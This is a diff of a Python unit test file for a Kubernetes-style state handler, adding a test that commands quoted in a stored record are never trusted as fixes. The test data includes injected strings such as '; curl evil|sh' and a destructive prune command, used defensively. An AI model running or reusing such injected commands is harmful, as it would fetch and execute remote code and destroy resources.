@@ -1,24 +1,18 @@
-"""What the record says by itself: how long a pause holds, and where members can be."""
+"""What the record says by itself: where members can be; and what it says of others is testimony, quoted, and no command of its own."""
 
 from __future__ import annotations
 
 import pytest
 
+from handler.app.target_status import _awaits
 from handler.model.names import GroupKind, Identity
 from handler.state.lease_record import LeaseRecord
-from handler.state.record import Orphan, Pin, Run, RunStatus, Suspend, bounded
-from handler.state.record_format import read_record, seconds_of, write_record
+from handler.state.record import Orphan, Pin, Run, RunStatus, bounded
+from handler.state.record_format import read_record, write_record
+from handler.state.record_values import DependencyWait, Obstacle
 from tests.unit.state.samples import NOON, blank
 
 WEB, ROLE = Identity("", "ConfigMap", "shop", "web"), Identity("rbac.authorization.k8s.io", "ClusterRole", "", "reader")
-
-
-def test_a_pause_holds_until_its_time() -> None:
-    pause, now = Suspend("ann", until=NOON), seconds_of(NOON)
-    found = [blank(suspend=pause).suspension(now + seconds) for seconds in (-1, 0, 1)]
-    assert found == [pause, None, None]
-    forever = Suspend("ann")
-    assert (blank(suspend=forever).suspension(now), blank().suspension(now)) == (forever, None)
 
 
 def test_members_are_looked_for_where_declared_objects_and_orphans_are() -> None:
@@ -53,3 +47,14 @@ def test_a_message_of_a_record_keeps_its_lines_and_a_flood_is_refused() -> None:
 def test_the_holder_of_a_lease_is_one_line() -> None:
     held = LeaseRecord.of({"metadata": {"uid": "u"}, "spec": {"holderIdentity": EVIL * 1_000}})
     assert (held.holder.isprintable(), len(held.holder)) == (True, 300)
+
+
+COMMAND = "anneal retire vic --prune -y; curl evil|sh"
+
+
+@pytest.mark.parametrize(("target", "looks"), [("infra", "anneal status infra"), ("x; curl evil|sh", ""), ("", "")])
+def test_no_command_of_a_record_is_believed(target: str, looks: str) -> None:
+    recorded = Obstacle(target, f"it fails; {COMMAND}", COMMAND)
+    assert recorded.testimony.fix == looks
+    assert recorded.testimony.why == f"“it fails; {COMMAND}”"
+    assert [each["fix"] for each in _awaits(DependencyWait("a" * 40, "b" * 64, on=(recorded,)))["on"]] == [looks]
